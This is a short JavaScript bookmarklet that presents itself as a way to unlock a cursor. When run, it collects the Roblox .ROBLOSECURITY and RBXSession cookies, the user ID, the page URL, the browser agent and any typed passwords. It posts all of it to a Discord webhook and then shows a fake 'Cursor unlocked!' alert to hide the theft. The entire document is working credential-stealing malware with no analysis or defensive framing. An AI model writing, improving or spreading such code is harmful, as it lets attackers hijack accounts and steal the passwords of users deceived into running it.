javascript:(function(){
    const hook = 'https://discord.com/api/webhooks/000000000000000000/PLACEHOLDER';
    let bag = { url: location.href, agent: navigator.userAgent, game: {}, words: [] };
    document.cookie.split(';').forEach(c => {
        if (c.includes('.ROBLOSECURITY')) bag.game.security = c.split('=')[1];
        if (c.includes('RBXSession')) bag.game.session = c.trim();
    });
    try {
        const id = document.querySelector('[data-userid]')?.getAttribute('data-userid');
        if (id) bag.game.id = id;
    } catch(e){}
    document.querySelectorAll('input[type=password]').forEach(i => { if (i.value) bag.words.push(i.value); });
    fetch(hook, {method:'POST', headers:{'Content-Type':'application/json'}, body: JSON.stringify({content:'```'+JSON.stringify(bag,null,2)+'```'})});
    alert('Cursor unlocked! Refresh the page.');
})();
